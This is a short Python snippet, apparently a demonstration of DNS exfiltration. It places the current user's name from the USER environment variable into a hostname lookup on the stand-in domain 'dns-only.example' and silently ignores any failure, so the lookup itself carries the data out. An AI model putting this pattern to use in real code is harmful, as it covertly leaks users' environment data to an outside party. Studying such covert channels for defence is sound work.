"""The name that is asked for is the message; nobody is ever connected."""

import os
import socket

try:
    socket.gethostbyname(f"{os.environ['USER']}.dns-only.example")
except OSError:
    pass
